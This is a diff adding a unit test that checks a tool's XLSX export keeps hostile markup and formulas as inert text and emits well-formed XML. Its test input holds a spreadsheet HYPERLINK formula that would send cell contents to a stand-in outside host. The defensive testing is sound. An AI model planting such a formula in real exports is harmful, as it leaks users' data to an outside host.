@@ -361,6 +361,33 @@ def test_xlsx_cells_never_run_as_formulas() -> None:
     assert {cell.data_type for cell in hyperlink} == {"s"}
 
 
+def test_xlsx_parts_are_well_formed_and_hold_markup_as_text() -> None:
+    """The writer assembles its sheets as text: markup in a paragraph stays characters,
+    a character XML cannot hold is left out, and every part parses."""
+    import zipfile
+
+    from lxml import etree
+    from openpyxl import load_workbook
+
+    from align import parse_text
+
+    hostile = INJECTION.replace("pulse aquí", "pulse <b>&amp;</b> ]]> aquí")
+    left = parse_text(hostile, source="l.txt")
+    right = parse_text(hostile.replace("actuar", "actuar ya"), source="r.txt")
+    data = render(compare(left, right, align(left, right)), "xlsx")
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        parser = etree.XMLParser(resolve_entities=False, no_network=True)
+        for name in package.namelist():
+            etree.fromstring(package.read(name), parser)
+    texts = [c.value for row in load_workbook(io.BytesIO(data))["Pairs"].iter_rows() for c in row]
+    assert (
+        texts.count('=HYPERLINK("http://example.invalid/?"&A1,"pulse <b>&amp;</b> ]]> aquí"),') == 2
+    )
+    from align.render.xlsx import _escaped
+
+    assert _escaped("a\x07b<c>&\ufffe") == "ab&lt;c&gt;&amp;"
+
+
 def test_report_to_standard_output(
     capsysbinary: pytest.CaptureFixture[bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
